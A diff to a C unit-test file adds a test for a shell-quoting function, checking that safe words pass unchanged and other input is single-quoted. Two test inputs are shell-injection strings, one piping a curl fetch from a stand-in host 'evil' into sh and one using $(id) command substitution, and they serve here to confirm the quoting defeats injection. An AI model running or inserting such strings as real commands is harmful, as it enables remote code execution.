@@ -160,5 +160,24 @@ static void test_json_strings(void)
   free(nul);
 }
 
+/* A word for the shell: safe text as it is, the rest single-quoted. */
+static void test_shell_quote(void)
+{
+  static const char *const quotes[][2] = {
+      {"wordcount", "wordcount"},
+      {"a-b_c.d/e:f@g%h=i", "a-b_c.d/e:f@g%h=i"},
+      {"", "''"},
+      {"two words", "'two words'"},
+      {"X;curl${IFS}evil|sh", "'X;curl${IFS}evil|sh'"},
+      {"it's", "'it'\\''s'"},
+      {"$(id)`id`", "'$(id)`id`'"},
+  };
+  for (size_t i = 0; i < sizeof quotes / sizeof quotes[0]; i++) {
+    char *q = cap_shell_quote(quotes[i][0]);
+    CHECK_STR(q, quotes[i][1]);
+    free(q);
+  }
+}
+
 UNIT_MAIN(test_text, test_output_cut_everywhere, test_output_byte_by_byte,
-          test_fput_cut_at_a_character, test_json_strings)
+          test_fput_cut_at_a_character, test_json_strings, test_shell_quote)
